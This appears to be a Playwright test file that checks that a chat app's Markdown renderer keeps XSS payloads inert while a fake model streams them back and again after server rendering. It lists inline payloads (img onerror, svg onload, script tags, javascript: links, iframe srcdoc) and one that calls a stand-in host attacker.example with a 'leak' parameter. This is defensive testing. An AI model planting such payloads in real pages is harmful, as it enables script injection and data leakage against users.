/**
 * XSS: every payload from shared/fixtures/xss-payloads.txt (plus a few that would set a flag
 * if they ever ran) is echoed back by fake-echo in random splits (so the streaming tail
 * renderer sees every half-typed state), one at a time and then all together; then the
 * conversation is reloaded so every answer is also rendered whole, by the server, and
 * hydrated. Throughout: no dialog, no script execution (`alert`/`confirm`/… are tripwires that
 * set `window.__xss`, and the flag payloads set it directly), no request to any host but the
 * app's (recorded and blocked), no dangerous element or attribute inside `.markdown`.
 */
import { expect, test } from '@playwright/test';
import { readFileSync } from 'node:fs';
import { ChatPage } from '../pages/chat-page';
import { MODELS } from '../support/constants';
import { appUrl } from '../support/env';
import { presentOrSkip, sharedPath } from '../support/shared-fixtures';
import { installXssGuard } from '../support/xss-guard';

/** The payload list lives in the shared folder beside the repository (env var overrides). */
const PAYLOADS_FILE = process.env.SLUICE_XSS_PAYLOADS
  ? presentOrSkip(process.env.SLUICE_XSS_PAYLOADS)
  : sharedPath('fixtures/xss-payloads.txt');

/** One payload per line; a literal `\n` in a line stands for a newline. */
function loadPayloads(): string[] {
  if (PAYLOADS_FILE === null) return [];
  return readFileSync(PAYLOADS_FILE, 'utf8')
    .split(/\r?\n/)
    .filter((line) => line.trim() !== '')
    .map((line) => line.replace(/\\n/g, '\n'));
}

/**
 * A line that starts with an HTML tag must be shown as literal text. (Autolinks such as
 * `<javascript:alert(1)>` are Markdown, not HTML, so they are excluded.)
 */
function isRawHtml(payload: string): boolean {
  return /^<[a-zA-Z]/.test(payload) && !/^<[a-zA-Z][a-zA-Z0-9+.-]*:/.test(payload);
}

/** Payloads that set `window.__xss` themselves if any part of them ever executes. */
const FLAG_PAYLOADS = [
  '<img src=x onerror="window.__xss=\'img onerror\'">',
  '<svg onload="window.__xss=\'svg onload\'"></svg>',
  '<script>window.__xss = "script element"</script>',
  '[click](javascript:window.__xss=\'link\')',
  '![pixel](https://attacker.example/p.png?leak=1 "t") and <style>@import "https://attacker.example/s.css";</style>',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
];

const payloads = [...loadPayloads(), ...FLAG_PAYLOADS];
const filePayloads = loadPayloads().length;

test('XSS payloads streamed back by the model stay inert', async ({ page }) => {
  test.skip(filePayloads === 0, `no XSS payloads: ${PAYLOADS_FILE} is missing or empty`);
  test.setTimeout(240_000);

  const guard = await installXssGuard(page, appUrl());
  const chat = new ChatPage(page);
  await chat.goto();
  await chat.selectModel(MODELS.echo);

  const expectClean = async (label: string) => {
    const problems = await guard.collect();
    expect(problems, `${label}\npage errors: ${guard.pageErrors.join('\n')}`).toEqual([]);
  };
  await expectClean('after load');

  for (const [index, payload] of payloads.entries()) {
    const label = `payload #${index + 1}: ${JSON.stringify(payload)}`;
    await test.step(label, async () => {
      const answer = await chat.send(payload);
      await chat.waitForDone(answer);
      const text = await chat.answerText(answer);
      expect(text.trim().length, `${label} rendered something`).toBeGreaterThan(0);
      if (isRawHtml(payload)) {
        expect(text, `${label} is shown as literal text`).toContain(payload.trim());
      }
      if (payload.includes('](https://attacker.example/')) {
        // Remote images become a click-to-load button, never an <img> fetch.
        await expect(answer.getByRole('button', { name: /Load image from attacker\.example/ })).toBeVisible();
      }
      await expectClean(label);
    });
  }

  await test.step('every answer again, rendered whole by the server and hydrated', async () => {
    await expect(page).toHaveURL(/\/c\/[0-9a-f-]{36}$/);
    await page.reload();
    await chat.waitForHydration();
    await expect(chat.assistantMessages).toHaveCount(payloads.length);
    await expect(chat.messageList.locator('article[data-role="assistant"][data-status="done"]')).toHaveCount(
      payloads.length,
    );
    await expectClean('reloaded conversation');
  });

  await test.step('all payloads in one message, streamed and then whole', async () => {
    await chat.newChat(); // only if the UI has a "New chat" button; otherwise keep going
    const answer = await chat.send(payloads.join('\n\n'));
    await chat.waitForDone(answer, 60_000);
    expect((await chat.answerText(answer)).length).toBeGreaterThan(100);
    await expectClean('combined message');
    await page.reload();
    await chat.waitForHydration();
    await expect(chat.lastAssistant).toHaveAttribute('data-status', 'done');
    await expectClean('combined message reloaded');
  });

  expect(await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss)).toBeUndefined();
});
